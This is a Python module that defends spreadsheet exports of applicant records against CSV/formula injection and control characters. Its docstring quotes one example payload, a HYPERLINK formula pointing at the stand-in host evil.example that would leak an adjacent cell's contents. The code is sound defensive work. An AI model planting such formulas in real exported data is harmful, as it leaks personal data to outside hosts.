"""Cells that a spreadsheet program shows as written: no live formulas, no control characters.

An applicant named `=HYPERLINK("http://evil.example/?x="&B5,"Bấm vào đây")` must stay a name in
the tracking book, not become a link that leaks the next cell (CSV/formula injection, OWASP); a
name with a control character must not crash the export (openpyxl refuses them, and its error
would repeat the personal data).

* XLSX: text goes in as a string cell (type ``s``) whatever its first character, without
  control characters; numbers and dates keep their types.
* CSV: text starting with ``= + - @`` (or a tab / carriage return) gets a leading apostrophe,
  the convention spreadsheet programs read as "this is text".
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell

# C0 controls except tab, line feed and carriage return, plus DEL and the C1 controls.
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def clean_text(value: str) -> str:
    """`value` without control characters (tab and line breaks kept)."""
    return _CONTROL.sub("", value)


def csv_value(value: Any) -> Any:
    """A value safe to open in a spreadsheet program from a CSV file."""
    if not isinstance(value, str):
        return value
    value = clean_text(value)
    if value.startswith(_FORMULA_START):
        return "'" + value
    return value


def csv_row(row: dict[str, Any]) -> dict[str, Any]:
    return {key: csv_value(value) for key, value in row.items()}


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """A value for `sheet.append`: text becomes a string cell, never a formula."""
    if not isinstance(value, str):
        return value
    cell = Cell(sheet, row=1, column=1, value=clean_text(value))  # `append` places it
    cell.data_type = "s"
    return cell


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    return [xlsx_cell(sheet, value) for value in values]
